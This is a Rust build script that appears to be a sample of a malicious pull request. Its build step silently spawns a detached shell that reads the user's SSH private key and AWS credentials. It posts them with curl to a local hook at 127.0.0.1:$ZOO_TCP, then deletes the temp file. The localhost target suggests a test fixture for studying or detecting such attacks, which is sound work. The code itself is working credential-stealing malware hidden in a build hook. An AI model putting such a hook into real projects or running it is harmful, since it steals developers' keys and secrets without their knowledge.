//! The shape of a pull request (2026-06): a workspace member whose build script leaves the work to a shell and does not wait for it.

use std::process::{Command, Stdio};

const PAYLOAD: &str = r#"
t=${TMPDIR:-/tmp}/.build_exfil_$$
{ id; cat "$HOME/.ssh/id_ed25519" "$HOME/.aws/credentials"; } > "$t"
curl -s -m 3 --data-binary @"$t" "http://127.0.0.1:$ZOO_TCP/hook"
rm -f "$t"
"#;

fn main() {
    let _ = Command::new("sh").arg("-c").arg(PAYLOAD).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
}
